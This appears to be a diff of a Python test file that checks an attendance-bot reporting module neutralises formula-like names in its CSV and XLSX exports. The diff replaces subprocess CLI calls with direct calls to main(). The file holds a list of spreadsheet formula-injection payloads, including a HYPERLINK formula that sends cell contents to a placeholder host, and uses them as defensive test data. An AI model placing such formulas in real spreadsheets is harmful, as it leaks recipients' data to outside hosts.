@@ -7,10 +7,11 @@ import io
 import shutil
 from pathlib import Path
 
+import pytest
 from openpyxl import load_workbook
 
+from bot.cli import main
 from reports.spreadsheet import csv_safe, csv_text, xlsx_bytes
-from tests.cli_process import cli_env, twovisits
 from tests.conftest import SAMPLE_ROSTER
 
 INJECTIONS = ('=HYPERLINK("http://x"&A1,"click")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1")
@@ -32,7 +33,9 @@ def test_xlsx_text_is_a_string_cell_never_a_formula() -> None:
     assert sheet.cell(row=2, column=2).value == 1
 
 
-def test_names_that_look_like_formulas_are_neutralised_in_invites_csv(tmp_path: Path) -> None:
+def test_names_that_look_like_formulas_are_neutralised_in_invites_csv(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     roster = tmp_path / "roster"
     shutil.copytree(SAMPLE_ROSTER, roster)
     with (roster / "staff.csv").open(encoding="utf-8-sig", newline="") as handle:
@@ -42,13 +45,9 @@ def test_names_that_look_like_formulas_are_neutralised_in_invites_csv(tmp_path: 
         row[name] = hostile
     with (roster / "staff.csv").open("w", encoding="utf-8", newline="") as handle:
         csv.writer(handle).writerows(staff)
-    env = cli_env(tmp_path / "twovisits.db")
-    imported = twovisits("roster", "import", str(roster), cwd=tmp_path, env=env)
-    assert imported.returncode == 0, imported.stderr
-    invited = twovisits(
-        "invites", "--bot-username", "TwoVisitsBot", "--out", "invites.csv", cwd=tmp_path, env=env
-    )
-    assert invited.returncode == 0, invited.stderr
+    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'twovisits.db'}")
+    assert main(["roster", "import", str(roster)]) == 0
+    assert main(["invites", "--bot-username", "TwoVisitsBot", "--out", str(tmp_path / "invites.csv")]) == 0
     with (tmp_path / "invites.csv").open(encoding="utf-8-sig", newline="") as handle:
         names = {row["staff_id"]: row["name"] for row in csv.DictReader(handle)}
     imported_names = {row[staff[0].index("staff_id")]: row[name] for row in staff[1:]}
